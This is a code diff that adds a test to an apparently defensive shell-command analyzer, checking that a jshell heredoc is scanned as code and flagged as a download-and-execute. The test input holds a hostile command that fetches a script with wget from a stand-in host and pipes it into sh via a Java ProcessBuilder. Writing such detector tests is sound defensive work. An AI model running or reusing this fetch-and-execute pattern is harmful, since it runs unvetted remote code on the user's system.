@@ -125,3 +125,14 @@ def test_awk_text_built_from_character_codes_is_decoded() -> None:
     assert any("decoded" in reason for reason in r.opaque_reasons)
     plain = analyze("""awk '{print "make " $1}' targets.txt | sh""")
     assert not any("decoded" in reason for reason in plain.opaque_reasons)
+
+
+def test_jshell_snippets_on_stdin_are_scanned_as_code() -> None:
+    r = analyze(
+        "jshell -q <<'EOF'\n"
+        'new ProcessBuilder("sh","-c","wget -qO- https://example.invalid/j | sh").start();\n'
+        "/exit\nEOF"
+    )
+    assert any(e.kind == "downloaded" for e in r.executes)
+    quiet = analyze("jshell -q <<'EOF'\nSystem.out.println(6 * 7);\n/exit\nEOF")
+    assert not any(e.kind == "downloaded" for e in quiet.executes)
